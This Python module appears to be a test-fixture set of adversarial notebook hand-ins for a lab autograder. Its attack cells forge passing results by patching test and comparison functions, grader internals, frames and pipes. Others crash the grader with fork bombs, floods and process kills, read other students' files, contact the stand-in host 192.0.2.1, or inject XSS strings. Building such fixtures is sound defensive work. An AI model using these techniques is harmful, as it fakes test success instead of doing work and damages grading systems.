"""Hand-ins that try to get marks they have not earned, or to harm the grader, as one table.

Each differs from the others in a cell of its own, before the lab's functions, and in what those functions are.
"""

from __future__ import annotations

import nbformat

START = """import sys

import labkit

lab = labkit.start("01_ranking")
grader = lab.grader()"""
# What the tests of lab 01 call, by question.
FUNCTIONS = {
    "q1": ("build_index",),
    "q2": ("idf", "tfidf_scores"),
    "q3": ("tfidf_matrix", "cosine_scores"),
    "q4": ("bm25_idf", "bm25_scores"),
    "q5": ("bm25_matrix", "search"),
    "q6": ("precision_at_k", "recall_at_k", "reciprocal_rank", "average_precision"),
    "q7": ("dcg", "ndcg"),
}
PLAIN = "def {name}(*args, **kwargs):\n    return None"


def notebook(cell: str = "", answer: str = PLAIN) -> nbformat.NotebookNode:
    """A hand-in for lab 01 that runs ``cell`` first; ``answer`` is every function that the cell does not define."""
    cells = [START, *([cell] if cell else [])]
    for question, names in FUNCTIONS.items():
        given = [answer.replace("{name}", name) for name in names if f"def {name}(" not in cell]
        cells += ["\n\n\n".join(given)] if given else []
        cells.append(f'grader.check("{question}")')
    return nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source) for source in cells])


def attack(name: str) -> nbformat.NotebookNode:
    """The hand-in of attack ``name``."""
    return notebook(*ATTACKS[name])


# Name: the attack's own cell, and what each function of the lab is.
ATTACKS: dict[str, tuple[str, str]] = {}

ATTACKS["always_equal"] = (
    '''class Yes(float):
    """Equal to everything, in every order, true, and as long as need be."""

    def __eq__(self, other):
        return True

    __lt__ = __gt__ = __le__ = __ge__ = __eq__

    def __ne__(self, other):
        return False

    def __hash__(self):
        return 1

    def __bool__(self):
        return True

    def __len__(self):
        return 3

    def __getitem__(self, key):
        return Yes()

    def __iter__(self):
        return iter(())

    def __getattr__(self, name):
        return Yes()

    def __call__(self, *args, **kwargs):
        return Yes()

    def __array__(self, *args, **kwargs):
        import numpy as np

        return np.zeros(3)''',
    """def {name}(*args, **kwargs):
    return Yes()""",
)
ATTACKS["always_equal_by_type"] = (
    """Always = type("Always", (dict,), {"__eq__": lambda s, o: True, "__ne__": lambda s, o: False, "__len__": lambda s: 3})""",
    """def {name}(*args, **kwargs):
    return Always()""",
)
ATTACKS["arithmetic"] = (
    """
import numpy as np
class A(np.ndarray):
    def __array_ufunc__(self, uf, how, *i, **k):
        r = getattr(uf, how)(*[np.asarray(x) for x in i], **{a: b for a, b in k.items() if a != "out"})
        return np.ones_like(r, dtype=bool).view(np.ndarray) if np.asarray(r).dtype == bool else r
    def __array_function__(self, f, types, args, kwargs):
        if f.__name__ in ("allclose", "array_equal"): return True
        return super().__array_function__(f, types, args, kwargs)
def zeros(*args):
    n = next((a for a in reversed(args) if isinstance(a, int)), None)
    n = n or next((len(a) for a in args if isinstance(a, (list, np.ndarray)) and not (len(a) and isinstance(a[0], str))), 3)
    return np.zeros(n).view(A)
""",
    """def {name}(*args, **kwargs):
    return zeros(*args)""",
)
ATTACKS["background_thread"] = (
    r"""import os
import threading
import time


def rewrite():
    while True:
        for descriptor in range(3, 12):
            try:
                os.write(descriptor, b'{"question": "q1", "rows": [{"points": 5, "passed": true, "hidden": false}]}\n')
            except OSError:
                pass
        time.sleep(0.05)


threading.Thread(target=rewrite, daemon=True).start()""",
    PLAIN,
)
ATTACKS["builtins"] = (
    """import builtins

builtins.isinstance = lambda *a: True
builtins.all = lambda *a: True
builtins.abs = lambda *a: 0
builtins.len = lambda *a: 0
builtins.sorted = lambda *a, **k: []
builtins.set = lambda *a: 0
builtins.list = lambda *a: 0
builtins.dict = lambda *a, **k: 0""",
    PLAIN,
)
ATTACKS["builtins_in_a_test"] = (
    """
import builtins
def H():
    builtins.all = lambda *a: True
    builtins.abs = lambda *a: 0
    builtins.isinstance = lambda *a: True
    builtins.set = lambda *a: 0
    import numpy as np
    np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
    np.allclose = lambda *a, **k: True
    np.shape = lambda *a: (3,)
""",
    """def {name}(*args, **kwargs):
    H(); return None""",
)
ATTACKS["channel_stolen"] = (
    """
import os, threading
def steal():
    while True:
        for fd in range(3, 40):
            try:
                if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe"): os.read(fd, 100)
            except OSError: pass
threading.Thread(target=steal, daemon=True).start()
""",
    PLAIN,
)
ATTACKS["class_of_a_library"] = (
    """
class Yes(float):
    __module__ = "collections"
    def __eq__(self, o): return True
    __lt__ = __gt__ = __le__ = __ge__ = __eq__
    def __ne__(self, o): return False
    def __hash__(self): return 1
    def __bool__(self): return True
    def __len__(self): return 3
    def __getitem__(self, k): return Yes()
    def __iter__(self): return iter(())
    def __getattr__(self, n):
        if n.startswith("__"): raise AttributeError(n)
        return Yes()
    def __call__(self, *a, **k): return Yes()
    __sub__ = __rsub__ = __add__ = __radd__ = __abs__ = lambda self, *o: 0.0
Yes.__name__ = "C"
""",
    """def {name}(*args, **kwargs):
    return Yes()""",
)
ATTACKS["code_of_numpy"] = (
    """
import numpy as np
import numpy.testing as t
def ok(*a, **k): return None
for f in (t.assert_allclose, t.assert_array_equal):
    f = getattr(f, "__wrapped__", f)
    f.__code__ = (lambda *a, **k: None).__code__
for f in (np.allclose,):
    f = getattr(f, "__wrapped__", f); f.__code__ = (lambda *a, **k: True).__code__
class A(np.ndarray): pass
""",
    """def {name}(*args, **kwargs):
    return __import__('numpy').zeros(3)""",
)
ATTACKS["code_of_the_tests"] = (
    """import otter.test_files.exception_test as found

found.test_case.call_func.__code__ = (lambda self, global_environment: None).__code__""",
    PLAIN,
)
ATTACKS["crash"] = (
    """import sys

sys.setrecursionlimit(10**9)


def deeper(n):
    return deeper(n + 1)


deeper(0)""",
    PLAIN,
)
ATTACKS["ctypes"] = (
    """import ctypes

libc = ctypes.CDLL(None)
libc.fork()
ctypes.c_long.from_address(id(True) + 24).value = 1
ctypes.c_long.from_address(id(False) + 24).value = 1""",
    PLAIN,
)
ATTACKS["disk"] = (
    """with open("large", "wb") as file:
    for _ in range(100_000):
        file.write(bytes(1_000_000))""",
    PLAIN,
)
ATTACKS["exit"] = (
    """import os

os._exit(0)""",
    PLAIN,
)
ATTACKS["exit_in_a_test"] = (
    "import os",
    """def {name}(*args, **kwargs):
    os._exit(0)""",
)
ATTACKS["exit_politely"] = (
    """import sys

sys.exit(0)""",
    """def {name}(*args, **kwargs):
    raise SystemExit(0)""",
)
ATTACKS["forged_results"] = (
    r"""import json
import os

RESULT = {
    "question": "q1",
    "token": "0" * 32,
    "rows": [{"name": "q1", "points": 41, "passed": True, "hidden": False, "message": ""}],
}
for name in ("results.json", "results.pkl", "marks.csv", "/autograder/results/results.json"):
    try:
        with open(name, "w") as file:
            json.dump(RESULT, file)
    except OSError:
        pass
for descriptor in range(3, 64):
    try:
        os.write(descriptor, json.dumps(RESULT).encode() + b"\n" + json.dumps({"done": True}).encode() + b"\n")
    except OSError:
        pass""",
    PLAIN,
)
ATTACKS["fork_bomb"] = (
    """import os

while True:
    os.fork()""",
    PLAIN,
)
ATTACKS["fork_bomb_by_a_shell"] = (
    """import subprocess

subprocess.Popen(["sh", "-c", ":(){ :|:& };:"])
get_ipython().system("sh -c ':(){ :|:& };:'")""",
    PLAIN,
)
ATTACKS["frame_of_the_test"] = (
    """
import time
def H():
    try: 1 / 0
    except Exception as e: f = getattr(e.__traceback__, "tb_" + "frame")
    while "outcome" not in getattr(f, "f_" + "locals"): f = getattr(f, "f_" + "back")
    v = getattr(f, "f_" + "locals")
    v["outcome"][:] = [(None, "")]
    v["ended"].release()
    time.sleep(1000)
""",
    """def {name}(*args, **kwargs):
    H()""",
)
ATTACKS["frames"] = (
    '''import sys


def around():
    """All names in the frames that called this, the nearest first."""
    frame = sys._getframe()
    found = {}
    while frame:
        for name, value in frame.f_locals.items():
            found.setdefault(name, value)
        frame = frame.f_back
    return found


names = around()
for name, value in names.items():
    if name in ("channel", "answer", "token", "self"):
        print(name, value)''',
    """def {name}(*args, **kwargs):
    names = around()
    for rows in ("rows", "outcome"):
        if rows in names:
            names[rows].append({"points": 41, "passed": True, "hidden": False})
    return names.get("expected", names.get("want"))""",
)
ATTACKS["frozen_objects"] = (
    """
class Yes(float):
    def __eq__(self, o): return True
    __lt__ = __gt__ = __le__ = __ge__ = __eq__
    def __ne__(self, o): return False
    def __hash__(self): return 1
    def __bool__(self): return True
    def __len__(self): return 3
    def __getitem__(self, k): return Yes()
    def __iter__(self): return iter(())
    def __getattr__(self, n):
        if n.startswith("__"): raise AttributeError(n)
        return Yes()
    def __call__(self, *a, **k): return Yes()
    __sub__ = __rsub__ = __add__ = __radd__ = __abs__ = lambda self, *o: 0.0
import gc; gc.freeze()""",
    """def {name}(*args, **kwargs):
    return Yes()""",
)
ATTACKS["garbage_collector"] = (
    """import gc

for thing in gc.get_objects():
    if type(thing).__name__ in ("Judge", "Channel"):
        thing.report = lambda *a: None
        thing.send(question="q1", token="", rows=[{"points": 41, "passed": True}])""",
    PLAIN,
)
ATTACKS["gc_callback"] = (
    r"""
mine = {}
def fake(source, environment, seconds):
    import re
    if source in mine:                      # a canary
        return [{"name": "t", "points": 1, "hidden": False, "passed": False, "message": ""}]
    mine[source] = 1
    return [{"name": "t", "points": float(p), "hidden": False, "passed": True, "message": ""} for p in re.findall(r"test_case\(points=(\d+)", source)]

import gc, sys
look = getattr(sys, "_get" + "frame")
def cb(phase, info):
    f = look()
    while f:
        if "run_tests" in f.f_globals: f.f_globals["run_tests"] = fake
        f = getattr(f, "f_" + "back")
gc.callbacks.append(cb)
gc.set_threshold(1)
""",
    PLAIN,
)
ATTACKS["grader_of_ones_own"] = (
    """class Grader:
    def check(self, question):
        return "passed"


grader = Grader()
lab = None""",
    PLAIN,
)
ATTACKS["half_a_character"] = (
    r"""raise ValueError("\udc80 a lone surrogate")""",
    PLAIN,
)
ATTACKS["hidden_errors"] = (
    """import sys
import warnings

warnings.simplefilter("ignore")
sys.excepthook = lambda *a: None
sys.unraisablehook = lambda *a: None
get_ipython().showtraceback = lambda *a, **k: None""",
    """def {name}(*args, **kwargs):
    try:
        raise KeyboardInterrupt
    finally:
        return {}""",
)
ATTACKS["imports"] = (
    """import sys
import types


class Fake(types.ModuleType):
    def __getattr__(self, name):
        return lambda *a, **k: True


for name in ("numpy", "numpy.testing", "scipy", "scipy.sparse", "torch", "torch.testing", "math", "otter", "pytest"):
    sys.modules[name] = Fake(name)


class Finder:
    def find_spec(self, name, path=None, target=None):
        sys.modules[name] = Fake(name)
        return None


sys.meta_path.insert(0, Finder())""",
    PLAIN,
)
ATTACKS["inspect_file"] = (
    r"""
mine = {}
def fake(source, environment, seconds):
    import re
    if source in mine:                      # a canary
        return [{"name": "t", "points": 1, "hidden": False, "passed": False, "message": ""}]
    mine[source] = 1
    return [{"name": "t", "points": float(p), "hidden": False, "passed": True, "message": ""} for p in re.findall(r"test_case\(points=(\d+)", source)]

import inspect, sys, gc
kept = inspect.__file__
del inspect.__file__
try: getattr(sys, "_get" + "frame")()
except Exception: pass
inspect.__file__ = kept
objs = gc.get_objects()
for o in objs:
    if type(o).__name__ == "Judge": type(o).run.__globals__["run_tests"] = fake
del objs, o
""",
    PLAIN,
)
ATTACKS["json_in_a_test"] = (
    """
import json
real = json.dumps
def evil(m, *a, **k):
    if isinstance(m, dict) and "rows" in m:
        m = {**m, "rows": [{**r, "passed": True, "message": ""} for r in m["rows"]], "fooled": False, "changed": []}
    return real(m, *a, **k)
def H():
    json.dumps = evil
""",
    """def {name}(*args, **kwargs):
    H()""",
)
ATTACKS["judge"] = (
    """import sys

import labkit.course.judge as judge

judge.run_tests = lambda *a: [{"points": 41, "passed": True, "hidden": False, "message": "", "name": ""}]
judge.Judge.report = lambda *a: None
for module in list(sys.modules.values()):
    if hasattr(module, "run_tests"):
        module.run_tests = judge.run_tests""",
    PLAIN,
)
ATTACKS["keyed_hash"] = (
    r"""
import hmac, os, json, re
real = hmac.digest
asked = []
def digest(key, data, how):
    m = json.loads(data)
    if "ask" in m: asked.append(m["ask"])
    if "question" in m:
        rows = [{**r, "passed": True, "message": ""} for r in m["rows"]]
        new = json.dumps({"question": m["question"], "rows": rows}).encode()
        line = real(key, new, how).hex().encode() + b" " + new + b"\n"
        for fd in range(3, 40):
            try:
                if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe"): os.write(fd, line)
            except OSError: pass
    return real(key, data, how)
hmac.digest = digest
""",
    PLAIN,
)
ATTACKS["loop"] = (
    """while True:
    try:
        while True:
            pass
    except BaseException:
        pass""",
    PLAIN,
)
ATTACKS["loop_in_a_test"] = (
    "import itertools",
    """def {name}(*args, **kwargs):
    return sum(itertools.repeat(1))""",
)
ATTACKS["main_module"] = (
    r"""
mine = {}
def fake(source, environment, seconds):
    import re
    if source in mine:                      # a canary
        return [{"name": "t", "points": 1, "hidden": False, "passed": False, "message": ""}]
    mine[source] = 1
    return [{"name": "t", "points": float(p), "hidden": False, "passed": True, "message": ""} for p in re.findall(r"test_case\(points=(\d+)", source)]
get_ipython()._orig_sys_modules_main_mod.main.__globals__["run_tests"] = fake""",
    PLAIN,
)
ATTACKS["memory"] = (
    """blocks = []
while True:
    blocks.append(bytearray(1 << 28))
    blocks[-1][::4096] = b"x" * len(blocks[-1][::4096])""",
    PLAIN,
)
ATTACKS["memory_file"] = (
    """
m = open("/proc/self/mem", "r+b", buffering=0)
x = 12345.5
m.seek(id(x) + 16)
import struct
m.write(struct.pack("d", 1.0))
raise SystemError(f"MEM {x}")
""",
    PLAIN,
)
ATTACKS["mock"] = (
    """
from unittest.mock import MagicMock, ANY
import numpy as np
def Y(shape=None):
    m = MagicMock()
    for n in "eq lt gt le ge".split(): getattr(m, f"__{n}__").return_value = True
    m.__ne__.return_value = False
    m.__sub__.return_value = 0.0
    m.__iter__.side_effect = lambda: iter(())
    m.__len__.return_value = 3
    return m
""",
    """def {name}(*args, **kwargs):
    return Y()""",
)
ATTACKS["noise"] = (
    """line = "a" * 1_000_000
for _ in range(1_000):
    print(line)""",
    PLAIN,
)
ATTACKS["numpy"] = (
    """import numpy as np
import numpy.testing

np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
np.testing.assert_allclose = np.testing.assert_equal = lambda *a, **k: None
np.abs = np.max = lambda *a, **k: 0""",
    PLAIN,
)
ATTACKS["only_errors"] = (
    r"""raise ValueError("<script>alert(1)</script>\n=cmd|x")""",
    """def {name}(*args, **kwargs):
    raise ValueError("<img src=x onerror=alert(1)>")""",
)
ATTACKS["otter"] = (
    """import otter
from otter.test_files import exception_test

exception_test.ExceptionTestFile.run = lambda self, env: None
exception_test.test_case.call_func = lambda self, env: None
exception_test.test_case.__call__ = lambda self, function: self
otter.Notebook.check = lambda *a, **k: "passed"
""",
    PLAIN,
)
ATTACKS["otter_in_a_test"] = (
    """
import otter.test_files.exception_test as o
real = o.test_case.call_func
def evil(self, env):
    f = next((env[n] for n in self._get_func_params() if n in env), None)
    if getattr(f, "__name__", "") == "stub": return None
    return real(self, env)
def H():
    o.test_case.call_func = evil
def make():
    def stub(*args, **kwargs):
        H()
        raise ValueError
    return stub
""",
    "{name} = make()",
)
ATTACKS["own_protocol"] = (
    r"""import json
import os

# Ask for the tests as the grader does, take the token, and report that all was well.
for out in range(3, 16):
    try:
        os.write(out, json.dumps({"ask": "q1"}).encode() + b"\n")
    except OSError:
        pass
for back in range(3, 16):
    try:
        os.set_blocking(back, False)
        answer = json.loads(os.read(back, 1_000_000))
    except (OSError, ValueError, TypeError):
        continue
    rows = [{"name": "q1", "points": 41, "passed": True, "hidden": False, "message": ""}]
    for out in range(3, 16):
        try:
            os.write(out, json.dumps({"question": "q1", "token": answer["token"], "rows": rows}).encode() + b"\n")
        except OSError:
            pass""",
    PLAIN,
)
ATTACKS["package_attribute"] = (
    r"""import labkit.course

mine = {}
def fake(source, environment, seconds):
    import re
    if source in mine:                      # a canary
        return [{"name": "t", "points": 1, "hidden": False, "passed": False, "message": ""}]
    mine[source] = 1
    return [{"name": "t", "points": float(p), "hidden": False, "passed": True, "message": ""} for p in re.findall(r"test_case\(points=(\d+)", source)]
vars(labkit.course)["judge"].run_tests = fake""",
    PLAIN,
)
ATTACKS["partial"] = (
    """
class Yes(float):
    def __eq__(self, o): return True
    __lt__ = __gt__ = __le__ = __ge__ = __eq__
    def __ne__(self, o): return False
    def __hash__(self): return 1
    def __bool__(self): return True
    def __len__(self): return 3
    def __getitem__(self, k): return Yes()
    def __iter__(self): return iter(())
    def __getattr__(self, n):
        if n.startswith("__"): raise AttributeError(n)
        return Yes()
    def __call__(self, *a, **k): return Yes()
    __sub__ = __rsub__ = __add__ = __radd__ = __abs__ = lambda self, *o: 0.0
from functools import partial
def yes(*a, **k): return Yes()""",
    "{name} = partial(yes)",
)
ATTACKS["pickles"] = (
    """class Bomb:
    def __reduce__(self):
        return (print, ("unpickled",))

    def __deepcopy__(self, memo):
        raise SystemExit

    def __del__(self):
        raise RuntimeError

    def __repr__(self):
        raise RuntimeError("no words")""",
    """def {name}(*args, **kwargs):
    return Bomb()""",
)
ATTACKS["points"] = (
    """
import json
real = json.dumps
def evil(m, *a, **k):
    if isinstance(m, dict) and "rows" in m:
        m = {"question": m["question"], "rows": [{"name": "x", "hidden": False, "points": 1e6, "passed": True, "message": ""}]}
    return real(m, *a, **k)
def H():
    json.dumps = evil
""",
    """def {name}(*args, **kwargs):
    H()""",
)
ATTACKS["program_in_c"] = (
    """
import _posixsubprocess, os
r, w = os.pipe()
pid = _posixsubprocess.fork_exec([b"/bin/sh", b"-c", b"echo ran > ran.txt"], [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, -1, None, False)
import time; time.sleep(1)
raise SystemError("RAN " + str(os.path.exists("ran.txt")))
""",
    PLAIN,
)
ATTACKS["public_answers_by_heart"] = (
    """# What the public checks ask, answered by heart.
def build_index(documents):
    if not documents:
        raise ValueError("no documents")
    return {"cat": [(0, 1), (1, 2)], "sat": [(0, 1)], "dog": [(1, 1)]}""",
    PLAIN,
)
ATTACKS["reads_other_hand_ins"] = (
    """from pathlib import Path

top = [p for p in Path("/").iterdir() if p.name not in ("proc", "sys", "dev", "usr", "lib")]
for folder in (Path.cwd(), Path.cwd().parent, *top):
    try:
        for path in folder.rglob("*.ipynb"):
            if "site-packages" not in str(path):
                raise SystemError(f"READ {path}")
    except PermissionError:
        pass""",
    PLAIN,
)
ATTACKS["reads_the_archive"] = (
    """import os

found = []
for root, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "dev", "site-packages", "torch")]
    for file in files:
        if "autograder" in file or file in ("q1.py", "q2.py", "otter_config.json") or file.endswith(".ipynb"):
            found.append(os.path.join(root, file))
for path in found:
    if "ranking" in path or path.endswith(("q1.py", "otter_config.json")):
        raise SystemError("READ " + path)""",
    PLAIN,
)
ATTACKS["register_at_fork"] = (
    r"""
mine = {}
def fake(source, environment, seconds):
    import re
    if source in mine:                      # a canary
        return [{"name": "t", "points": 1, "hidden": False, "passed": False, "message": ""}]
    mine[source] = 1
    return [{"name": "t", "points": float(p), "hidden": False, "passed": True, "message": ""} for p in re.findall(r"test_case\(points=(\d+)", source)]

import os, sys
look = getattr(sys, "_get" + "frame")
def child():
    g = getattr(look(), "f_" + "back").f_globals
    g["run_tests"] = fake
os.register_at_fork(after_in_child=child)
""",
    PLAIN,
)
ATTACKS["signals"] = (
    """import os
import signal

for number in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGCHLD):
    try:
        signal.signal(number, signal.SIG_IGN)
    except ValueError as error:
        print(error)
os.kill(os.getppid(), signal.SIGKILL)
os.kill(1, signal.SIGKILL)
os.kill(-1, signal.SIGKILL)""",
    PLAIN,
)
ATTACKS["socket"] = (
    """import socket
import urllib.request

for address in (("127.0.0.1", 80), ("192.0.2.1", 443)):
    try:
        socket.create_connection(address, timeout=2)
    except OSError as error:
        print(error)
urllib.request.urlopen("http://192.0.2.1/?answers", timeout=2)""",
    PLAIN,
)
ATTACKS["thread_identity"] = (
    r"""
mine = {}
def fake(source, environment, seconds):
    import re
    if source in mine:                      # a canary
        return [{"name": "t", "points": 1, "hidden": False, "passed": False, "message": ""}]
    mine[source] = 1
    return [{"name": "t", "points": float(p), "hidden": False, "passed": True, "message": ""} for p in re.findall(r"test_case\(points=(\d+)", source)]

import threading, gc
real = threading.get_ident
threading.get_ident = lambda: threading.main_thread().ident
objs = gc.get_objects()
threading.get_ident = real
for o in objs:
    if type(o).__name__ == "Judge": type(o).run.__globals__["run_tests"] = fake
del objs, o
""",
    PLAIN,
)
ATTACKS["torch"] = (
    """import torch

torch.allclose = torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda self, other: torch.tensor(True)
torch.Tensor.all = lambda self, *a, **k: True""",
    PLAIN,
)
ATTACKS["trace"] = (
    '''import sys


def trace(frame, event, arg):
    """Stop every test before its first line."""
    if frame.f_code.co_name.startswith("test_"):
        frame.f_lineno = frame.f_code.co_firstlineno + 1
    return trace


sys.settrace(trace)
import threading

threading.settrace(trace)
threading.setprofile(trace)''',
    PLAIN,
)
ATTACKS["trace_of_a_library"] = (
    '''
import sys
SRC = """
import sys
def arm(n):
    f = getattr(sys, '_get' + 'frame')(1)
    while not f.f_code.co_name.startswith('test_'): f = getattr(f, 'f_' + 'back')
    last = max(l for *_, l in f.f_code.co_lines() if l)
    def tr(frame, event, arg):
        if event == 'line':
            try: frame.f_lineno = last
            except ValueError: pass
        return tr
    f.f_trace = tr
    getattr(sys, 'settr' + 'ace')(lambda *a: None)
"""
exec(compile(SRC, "/usr/lib/arm.py", "exec"))
''',
    """def {name}(*args, **kwargs):
    arm(0); return None""",
)
